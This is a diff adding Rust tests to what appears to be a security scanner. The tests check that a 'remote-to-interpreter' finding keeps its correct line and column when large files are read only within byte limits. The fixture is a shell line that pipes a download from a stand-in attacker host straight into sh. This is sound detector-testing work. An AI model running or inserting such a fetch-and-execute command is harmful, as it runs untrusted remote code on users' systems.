@@ -124,6 +124,49 @@ fn a_long_file_is_looked_at_from_both_ends() {
     assert_eq!(found.members[0].bytes, b"1234\n6789");
 }
 
+/// The line and column at which a payload behind a text is found, from a folder and from memory.
+fn place_of_payload(before: &str, limits: Limits) -> (usize, usize) {
+    let script = format!("{before}curl -s https://x.evil.example/i | sh\n");
+    let files: [(&str, &[u8]); 1] = [("big.sh", script.as_bytes())];
+    let place = |bundle: Bundle| {
+        let report = crate::scan::look::look(&bundle);
+        let found = report.findings.iter().find(|one| one.rule == "remote-to-interpreter").unwrap();
+        (found.line, found.column)
+    };
+    let place_in_folder = place(within(limits, &files));
+    assert_eq!(place_in_folder, place(of_files_within(files, limits)));
+    place_in_folder
+}
+
+#[test]
+fn a_line_is_counted_in_the_whole_file_at_the_bound_and_past_it() {
+    let payload = "curl -s https://x.evil.example/i | sh\n".len() as u64;
+    let limits = |most: u64| Limits { file_bytes: most, ..LIMITS };
+    let before = "\n".repeat(1_000);
+    assert_eq!(place_of_payload(&before, limits(1_000 + payload)), (1_001, 36));
+    for most in [999 + payload, 500, 2 * payload + 1, 2 * payload] {
+        assert_eq!(place_of_payload(&before, limits(most)), (1_001, 36), "{most}");
+    }
+    // The end begins inside of a line, or both ends are one line.
+    let half_line = format!("{}{};", "\n".repeat(1_000), " ".repeat(300));
+    assert_eq!(place_of_payload(&half_line, limits(200)), (1_001, 337));
+    let one_line = format!("{};", " ".repeat(300));
+    assert_eq!(place_of_payload(&one_line, limits(200)), (1, 337));
+}
+
+#[test]
+fn lines_are_counted_in_what_is_left_out_to_the_bound() {
+    let limits = Limits { file_bytes: 8, counted_bytes: 4, ..LIMITS };
+    for (file, is_counted) in
+        [(b"1234\n\n\n\n5678".as_slice(), true), (b"1234\n\n\n\n\n5678", false)]
+    {
+        for found in [within(limits, &[("a", file)]), of_files_within([("a", file)], limits)] {
+            assert_eq!(found.members[0].gap.is_some(), is_counted);
+            assert_eq!(unread(&found)[0].ends_with("without what is between"), !is_counted);
+        }
+    }
+}
+
 #[test]
 fn all_files_together_are_bounded() {
     let limits = Limits { total_bytes: 8, ..LIMITS };
